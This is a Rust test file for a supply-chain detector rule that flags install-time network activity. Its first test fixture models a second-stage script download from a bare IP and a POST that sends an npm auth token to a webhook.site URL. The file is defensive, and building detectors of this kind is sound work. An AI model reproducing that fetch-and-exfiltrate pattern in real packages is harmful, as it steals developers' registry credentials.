use super::*;

#[test]
fn dsca1003_downloads_a_script_and_posts_to_a_webhook() {
    let mut run = benign();
    run.http
        .push(request("GET", "http://198.51.100.7/stage2.sh", false));
    let mut post = request("POST", "https://webhook.site/0000-1111", false);
    post.body = "{\"npmrc\":\"//registry.npmjs.org/:_authToken=npm_bait\"}".into();
    post.body_bytes = 52;
    run.http.push(post);
    let found = findings(&run, "DSCA1003");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn dsca1003_registry_requests_are_not_reported_and_headers_download_is_low() {
    assert!(findings(&benign(), "DSCA1003").is_empty());
    let mut run = benign();
    run.http.push(request(
        "GET",
        "https://nodejs.org/download/release/v20.17.0/node-v20.17.0-headers.tar.gz",
        false,
    ));
    assert_eq!(findings(&run, "DSCA1003")[0].severity, Severity::Low);
}
